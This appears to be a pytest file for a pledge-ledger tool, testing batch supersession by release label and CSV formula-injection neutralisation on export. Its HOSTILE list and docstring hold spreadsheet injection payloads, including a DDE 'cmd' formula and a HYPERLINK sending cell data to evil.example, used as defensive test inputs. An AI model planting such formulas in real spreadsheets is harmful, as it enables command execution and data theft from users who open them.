"""Nothing vanishes silently (issue 18): supersession by release identity only; injection-safe export.

Quoted failures: importing `ministryB/pledges.csv` after a different `ministryA/pledges.csv`
superseded A by base name and A's pledges vanished from reports, and re-importing A's content under
another name was refused as already imported; spreadsheet formulas (`=cmd|'/c calc'!A1`,
`=HYPERLINK(...)`, `+1+1`, `@SUM(1,1)`) survived `ledger export`, and the import stripped the tab or
CR a careful writer put in front of them.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from _support.cli import run_cli
from ledger.ledger_helpers import digest
from pactlab.errors import PactlabError
from pactlab.ledger import Ledger, export_csv, import_file, ledger_report, open_ledger
from pactlab.ledger import repository as repo
from pactlab.ledger.importers.plain import COLUMNS

HEADER = ",".join(COLUMNS) + "\n"


def _ministry(folder: Path, guarantor: str, value: int) -> Path:
    folder.mkdir(exist_ok=True)
    path = folder / "pledges.csv"
    path.write_text(
        HEADER + f"pledge,{guarantor},,committed,2024-01-01,,{value},EUR,,,,,,,,,,\n", encoding="utf-8"
    )
    return path


def test_same_file_name_from_two_ministries_both_count(ledger: Ledger, tmp_path: Path) -> None:
    a = import_file(ledger, _ministry(tmp_path / "ministryA", "deu", 100), "csv")
    b = import_file(ledger, _ministry(tmp_path / "ministryB", "fra", 200), "csv")
    assert b.superseded == ()
    assert b.notes == ()
    rows = {r.key: r.committed_eur for r in ledger_report(ledger, "guarantor").rows}
    assert rows == {"deu": 100.0, "fra": 200.0}
    copy = tmp_path / "copy-of-a.csv"
    copy.write_bytes((tmp_path / "ministryA" / "pledges.csv").read_bytes())
    again = import_file(ledger, copy, "csv")
    assert (again.status, again.batch_id) == ("unchanged", a.batch_id)
    assert "already imported as batch 1" in again.notes[0]
    assert "current" in again.notes[0]


def test_a_dataset_release_supersedes_and_says_so(db_url: str, tmp_path: Path) -> None:
    """With an explicit identity (dataset + release) a file replaces its earlier release, in words."""
    first = _ministry(tmp_path / "v1", "deu", 100)
    second = _ministry(tmp_path / "v2", "deu", 150)
    base = ["--format", "csv", "--dataset", "mod-pledges", "--db", db_url]
    assert run_cli("ledger", "import", str(first), *base, "--release", "1").code == 0
    done = run_cli("ledger", "import", str(second), *base, "--release", "2")
    assert done.code == 0, done.stderr
    assert "superseded batch 1 (csv release 1, pledges.csv" in done.stderr
    with open_ledger(db_url) as ledger:
        assert ledger_report(ledger).totals.committed_eur == 150.0
        batches = [(b["id"], b["superseded_by"]) for b in ledger.batches()]
    assert batches == [(1, 2), (2, None)]
    listed = run_cli("ledger", "batches", "--db", db_url)
    assert "current" in listed.stdout


def test_replacing_without_a_release_label_is_refused(ledger: Ledger, tmp_path: Path) -> None:
    """Same dataset, no orderable release: refused, saying what to do; same release twice too."""
    import_file(ledger, _ministry(tmp_path / "v1", "deu", 100), "csv", dataset="mod")
    before = digest(ledger)
    with pytest.raises(PactlabError, match="give a release label"):
        import_file(ledger, _ministry(tmp_path / "v2", "deu", 150), "csv", dataset="mod")
    assert digest(ledger) == before
    import_file(ledger, _ministry(tmp_path / "v3", "fra", 1), "csv", dataset="other", release="2024-01-01")
    with pytest.raises(PactlabError, match=r"already imported as batch .* with different content"):
        import_file(
            ledger, _ministry(tmp_path / "v4", "fra", 2), "csv", dataset="other", release="2024-01-01"
        )
    with pytest.raises(PactlabError, match=r"^release: release 'latest' is neither a number"):
        import_file(ledger, _ministry(tmp_path / "v5", "fra", 3), "csv", dataset="other", release="latest")
    assert ledger_report(ledger).totals.committed_eur == 101.0  # "mod" 100 and "other" 1, nothing else


def test_pun_without_a_release_never_replaces_silently(
    ledger: Ledger, shared_data: Path, tmp_path: Path
) -> None:
    """ProtectUkraineNow's file states no release: a different second file needs --release."""
    folder = shared_data / "ukraine" / "protect-ukraine-now"
    import_file(ledger, folder, "pun")
    entries = json.loads((folder / "commits.json").read_text(encoding="utf-8"))
    entries[0][4] += 1
    changed = tmp_path / "commits.json"
    changed.write_text(json.dumps(entries), encoding="utf-8")
    with pytest.raises(PactlabError, match="stream 'pun' already has a current batch 1"):
        import_file(ledger, changed, "pun")
    newer = import_file(ledger, changed, "pun", release="2026-11-01")
    assert newer.superseded == (1,)
    assert "superseded batch 1 (pun" in newer.notes[0]


HOSTILE = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'plain quote",
    "plain text",
]


def test_export_neutralises_formulas_and_imports_back_the_same(ledger: Ledger, tmp_path: Path) -> None:
    """OWASP CSV injection: every text cell starting =, +, -, @, tab or CR gets a leading '; the
    import restores it, so the records come back the same (leading tab and CR kept)."""
    for i, text in enumerate(HOSTILE):
        ledger.add_pledge(
            "deu", "2024-01-01", value=-5.0 if i == 0 else 1.0, item=text, source=text, unit=text
        )
    exported = export_csv(ledger)
    cells = list(csv.DictReader(io.StringIO(exported)))
    for row, text in zip(cells, HOSTILE, strict=True):
        for column in ("item", "source", "unit"):
            assert row[column][0] not in "=+-@\t\r", row[column]
            if text[0] in "=+-@\t\r'":
                assert row[column] == "'" + text
    assert cells[0]["value"] == "-5.0"  # a number stays a number
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8", newline="")
    with open_ledger(f"sqlite:///{tmp_path / 'copy.sqlite3'}") as copy:
        import_file(copy, path, "csv")
        with copy.reading() as session:
            items = [(r["item"], r["source"], r["unit"]) for r in repo.export_rows(session)]
    assert items == [(t, t, t) for t in HOSTILE]
